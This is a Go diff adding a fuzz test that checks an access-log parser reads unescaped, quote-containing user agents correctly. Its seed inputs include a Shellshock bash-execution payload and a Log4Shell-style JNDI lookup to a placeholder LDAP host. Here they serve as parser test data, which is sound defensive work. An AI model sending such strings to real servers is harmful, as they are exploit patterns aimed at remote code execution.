@@ -78,3 +78,29 @@ func FuzzRoundTrip(f *testing.F) {
 		}
 	})
 }
+
+// FuzzUnescapedUserAgent writes arbitrary user agents as a server without escaping would, raw
+// quotes included, and checks that the line is read with exactly that user agent: the last
+// field of a combined line ends at the line's last quote. A user agent holding a quote followed
+// by a space (which can be a field boundary), a backslash, a byte either server would escape or
+// more quotes than the search reads is skipped.
+func FuzzUnescapedUserAgent(f *testing.F) {
+	f.Add(`() { :; }; /bin/bash -c "id"`)
+	f.Add(`${jndi:ldap://x.example/"a"}`)
+	f.Add(`Mozilla/5.0 "evil"agent`)
+	f.Add(`""`)
+	f.Fuzz(func(t *testing.T, ua string) {
+		if strings.Contains(ua, `" `) || strings.HasPrefix(ua, " ") || strings.ContainsAny(ua, "\\") || !isText(ua) ||
+			strings.Count(ua, `"`) > maxFieldQuotes-3 { // the referrer's closing and the user agent's quotes count too
+			t.Skip()
+		}
+		line := `192.0.2.1 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "` + ua + `"`
+		var p parser
+		if why := p.parse(line); why != "" {
+			t.Fatalf("%q: %s", line, why)
+		}
+		if p.f.userAgent != ua || p.f.referrer != "-" || len(p.f.trailing) != 0 {
+			t.Fatalf("%q: got referrer %q agent %q extra %q", line, p.f.referrer, p.f.userAgent, p.f.trailing)
+		}
+	})
+}
